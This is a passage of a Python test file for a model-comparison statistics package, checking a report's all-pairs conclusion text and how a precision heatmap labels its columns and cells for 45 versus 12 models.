    every = compare_models(frame, y_true="y", n_boot=100, family="all")
    assert "Every pair is tested (--pairs all: 66 pairs)" in str(sections.section_conclusion(every))


def test_the_precision_map_of_many_models_numbers_its_columns_by_rank():
    """Beyond 40 models a cell's number and a model's name are not legible (and 1,000 models
    drew 4,000 texts): the map keeps its colours, numbers the columns by rank, and says where
    the names are; up to 40, every cell and name is written."""
    many = compare_models(_many_wide(45), y_true="y", n_boot=20)
    ax = figures.precision_heatmap(many).axes[0]
    assert len(ax.texts) == 0
    labels = [t.get_text() for t in ax.get_xticklabels()]
    assert len(labels) == 23 and all(x.isdigit() for x in labels)  # every second column
    assert "the 45 models by accuracy rank" in ax.get_xlabel()
    few = compare_models(_many_wide(12), y_true="y", n_boot=20)
    ax = figures.precision_heatmap(few).axes[0]
    assert len(ax.texts) == 3 * 12  # three classes by twelve models
